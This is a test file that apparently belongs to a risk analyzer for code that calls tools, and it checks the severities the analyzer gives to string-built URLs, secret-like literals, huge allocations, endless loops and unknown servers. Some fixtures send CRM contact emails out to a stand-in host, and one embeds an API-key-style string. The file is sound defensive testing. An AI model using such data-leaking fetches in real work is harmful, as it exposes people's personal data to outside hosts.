import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { describeRisk } from "../../src/analyze/analyze.ts";
import { SEVERITIES } from "../../src/vocabulary.ts";
import { analyzeText } from "./analyze-fixture.ts";

/** The same rule is louder where the data that moves is a tool's result, or where more is at stake. */
const CASES: [source: string, rule: string, severity: string][] = [
  ["return web.fetch({ url: `https://x.example/${context.page}` })", "string-built-url", "low"],
  ["return web.fetch({ url: `https://${context.host}/a` })", "string-built-url", "medium"],
  [
    "const r = await crm.get({}); return web.fetch({ url: `https://x.example/${r.email}` })",
    "string-built-url",
    "medium",
  ],
  [
    "const r = await web.get({}); return web.fetch({ url: `https://x.example/${r.id}` })",
    "string-built-url",
    "low",
  ],
  [
    "for (const { email } of (await crm.list({})).items) await web.fetch({ url: 'https://x.example/?' + email })",
    "string-built-url",
    "medium",
  ],
  ["return new Array(2e7)", "huge-allocation", "medium"],
  ["return new Array(2 ** 31)", "huge-allocation", "high"],
  ['return "sk_live_4eC39HqLyjWDarjtT1zd"', "sensitive-literal", "low"],
  ['return "ann@example.com"', "sensitive-literal", "info"],
  ["while (true) {}", "unbounded-loop", "medium"],
  ["while (true) { await crm.list({}) }", "endless-calls", "high"],
  ["return crm.list_contacts({ nam: 1 })", "unknown-argument", "info"],
  ["return github.create_issue({ repo: 'a', title: 'b', nam: 1 })", "unknown-argument", "low"],
  ['import { a } from "servers/nobody"; return a()', "unknown-server", "high"],
  ['return callTool("nobody.a", {})', "unknown-server", "medium"],
];

describe("severities", () => {
  for (const [source, rule, severity] of CASES) {
    test(`${severity} ${rule}: ${source}`, () => {
      const found = analyzeText(source).findings.filter((finding) => finding.rule === rule);
      assert.deepEqual(
        found.map((finding) => finding.severity),
        [severity],
      );
    });
  }
});

test("the description of risk names every severity with the points that it counts", () => {
  const text = describeRisk();
  for (const severity of SEVERITIES) assert.match(text, new RegExp(`\\| \`${severity}\` \\| \\d+ \\|`));
  const points = Object.fromEntries(
    [...text.matchAll(/\| `(\w+)` \| (\d+) \|/g)].map(([, name, n]) => [name, Number(n)]),
  );
  assert.equal(analyzeText("debugger; return 1").risk.score, points["low"]);
  assert.equal(analyzeText("while (true) {}").risk.score, points["medium"]);
  assert.equal(analyzeText("return process").risk.score, points["high"]);
});
